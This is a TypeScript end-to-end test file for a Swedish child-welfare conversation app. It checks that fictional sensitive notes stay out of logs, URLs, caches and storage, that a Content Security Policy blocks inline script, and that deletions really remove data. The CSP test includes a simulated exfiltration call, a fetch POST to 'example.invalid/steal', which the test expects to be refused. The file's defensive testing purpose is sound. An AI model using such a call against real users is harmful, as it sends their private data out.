// "No way out for data" (issue 6): across a whole journey no request leaves the app's origin and no note
// reaches the console, the address or the service-worker cache; the built page carries a CSP with no
// inline script; deleting a conversation or a child removes it from IndexedDB for real.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { collectConsole, guardOrigins, openBrowser, ROOT, startApp, type ConsoleLog, type OpenedBrowser, type OriginGuard, type RunningApp } from './harness';
import { addChild, openArea, startConversation } from './helpers/app';
import { dumpIndexedDb, expectNoneOf, fillTurnOnForm, readRows, unlockWith } from './lockSteps';

const PASS = 'sommar vid havet 1987';
const ALIAS = 'Vilgot Åkesson';
const NOTES = ['Bråkar med storebror Kasper', 'Tandvärk sedan påsklovet', 'Pratar gärna om katten Tussan', 'Kuratorn Sanna ringer hem'];
const SECRETS = [ALIAS, 'Vilgot', ...NOTES, PASS];

let app: RunningApp;
let opened: OpenedBrowser;
let guard: OriginGuard;
let log: ConsoleLog;
const visited: string[] = [];

beforeAll(async () => {
  app = await startApp();
});
afterAll(async () => {
  await app?.close();
});
beforeEach(async () => {
  visited.length = 0;
  opened = await openBrowser();
  guard = guardOrigins(opened.context, app.origin);
  log = collectConsole(opened.page);
  opened.page.on('framenavigated', (frame) => visited.push(frame.url()));
  opened.context.on('request', (request) => visited.push(request.url()));
});
afterEach(async () => {
  await opened?.close();
  expect(guard.foreign).toEqual([]);
});

/** Text of every response in every Cache Storage cache of the origin (the service worker's precache). */
async function cachedText(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const parts: string[] = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        parts.push(request.url);
        const response = await cache.match(request);
        if (response) parts.push(await response.text());
      }
    }
    return parts.join('\n');
  });
}

describe('no way out for data', () => {
  it('a whole journey (lock, child, conversation, summary, languages, lock and unlock) stays on the origin and out of logs', async () => {
    const { page } = opened;
    await page.goto(app.url);
    await page.locator('[data-testid="first-run-lock"]').click();
    await fillTurnOnForm(page, PASS);
    await page.locator('[data-testid="lock-now"]').waitFor({ timeout: 30_000 });

    await addChild(page, ALIAS);
    const conversationId = await startConversation(page);
    await page.getByLabel('Det här går bra').fill(NOTES[0]!);
    await openArea(page, 'healthy');
    await page.getByLabel('Det här oroar').fill(NOTES[1]!);
    await page.getByLabel('Anteckningar om hela samtalet').fill(NOTES[2]!);
    await page.locator('[data-area-panel]').getByRole('button', { name: 'Lägg till åtgärd' }).click();
    await page.getByLabel('Vem gör det').fill(NOTES[3]!);
    await page.locator('[data-testid="save-status"][data-state="saved"]').waitFor();

    // The summary (print/copy), then the app in English and Arabic and back.
    await page.getByRole('link', { name: 'Sammanfattning och utskrift' }).click();
    await page.waitForURL(/#\/summary\//);
    await page.waitForTimeout(500);
    await page.locator('[data-testid="language-switcher"]').first().selectOption('en');
    await expect.poll(() => page.evaluate(() => document.documentElement.lang)).toBe('en');
    await page.goto(`${app.url}#/conversation/${conversationId}?area=healthy`);
    await page.locator('[data-area-panel="healthy"]').waitFor();
    await page.locator('[data-testid="language-switcher"]').first().selectOption('ar');
    await expect.poll(() => page.evaluate(() => document.documentElement.dir)).toBe('rtl');
    await page.locator('[data-testid="language-switcher"]').first().selectOption('sv');

    await page.locator('[data-testid="lock-now"]').click();
    await page.locator('[data-testid="lock-screen"]').waitFor();
    await unlockWith(page, PASS);
    await page.locator('[data-area-panel="healthy"]').waitFor();
    expect(await page.getByLabel('Det här oroar').inputValue()).toBe(NOTES[1]);

    expect(guard.foreign).toEqual([]);
    expect(log.errors()).toEqual([]);
    for (const entry of log.entries) expectNoneOf(entry.text, SECRETS, `console message "${entry.text.slice(0, 80)}"`);
    expectNoneOf(visited.join('\n'), SECRETS, 'URLs');
    expectNoneOf(decodeURIComponent(visited.join('\n')), SECRETS, 'decoded URLs');
    // The service worker has filled its cache by now: what is in it is the app, never a note.
    await expect.poll(() => page.evaluate(async () => (await caches.keys()).length), { timeout: 20_000 }).toBeGreaterThan(0);
    const cached = await cachedText(page);
    expect(cached).toContain('index.html');
    expectNoneOf(cached, SECRETS, 'the service-worker cache');
    expectNoneOf(await dumpIndexedDb(page), SECRETS, 'IndexedDB');
    expectNoneOf(
      await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) + document.cookie),
      SECRETS,
      'web storage',
    );
  });

  it('serves index.html with a CSP meta tag and headers, no inline script, and the CSP blocks inline script', async () => {
    const html = readFileSync(path.join(ROOT, 'dist', 'index.html'), 'utf8');
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
    for (const directive of ["default-src 'self'", "script-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'none'"]) {
      expect(meta).toContain(directive);
    }
    expect(meta).not.toContain('unsafe-inline');
    expect(meta).not.toContain('unsafe-eval');
    // Every script is a file of our own; no inline script and no inline event handler.
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attributes, body] of scripts) {
      expect(attributes).toMatch(/\bsrc="\/?[\w./-]+"/);
      expect(body?.trim()).toBe('');
    }
    expect(html).not.toMatch(/\son[a-z]+=/i);

    const { page } = opened;
    const response = await page.goto(app.url);
    const csp = response?.headers()['content-security-policy'] ?? '';
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
    const blocked = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
          const script = document.createElement('script');
          script.textContent = 'window.__inlineRan = true';
          document.body.append(script);
          setTimeout(() => resolve((window as unknown as { __inlineRan?: boolean }).__inlineRan ? 'ran' : 'no event'), 2000);
        }),
    );
    expect(blocked).toMatch(/^script-src/);
    const exfiltration = await page.evaluate(async () => {
      try {
        await fetch('http://example.invalid/steal', { method: 'POST', body: 'x' });
        return 'sent';
      } catch {
        return 'refused';
      }
    });
    expect(exfiltration).toBe('refused');
  });

  it('deletes one conversation, then one child, from IndexedDB for real', async () => {
    const { page } = opened;
    await page.goto(app.url);
    await page.locator('[data-testid="first-run-dismiss"]').click();
    const childId = await addChild(page, ALIAS);
    const first = await startConversation(page);
    await page.getByLabel('Det här går bra').fill(NOTES[0]!);
    await page.locator('[data-testid="save-status"][data-state="saved"]').waitFor();
    await page.goto(`${app.url}#/child/${childId}`);
    const second = await startConversation(page);
    await page.getByLabel('Det här går bra').fill(NOTES[1]!);
    await page.locator('[data-testid="save-status"][data-state="saved"]').waitFor();

    // Delete the second conversation: asked first, then gone from the database, text and all.
    await page.getByRole('button', { name: 'Radera samtalet' }).click();
    await page.getByText('Vill du radera det här samtalet', { exact: false }).waitFor();
    expect((await readRows(page)).conversations).toHaveLength(2);
    await page.getByRole('button', { name: 'Ja, radera samtalet' }).click();
    await page.waitForURL(new RegExp(`#/child/${childId}`));
    let dump = await dumpIndexedDb(page);
    expect(dump).not.toContain(second);
    expect(dump).not.toContain(NOTES[1]);
    expect(dump).toContain(first);
    expect(dump).toContain(NOTES[0]);

    // Delete the child: every conversation about the child goes too.
    await page.getByRole('button', { name: 'Radera barnet' }).click();
    await page.getByRole('button', { name: 'Ja, radera barnet' }).click();
    await page.waitForURL(/#\/$/);
    dump = await dumpIndexedDb(page);
    expectNoneOf(dump, [ALIAS, childId, first, NOTES[0]!], 'IndexedDB after deleting the child');
  });
});
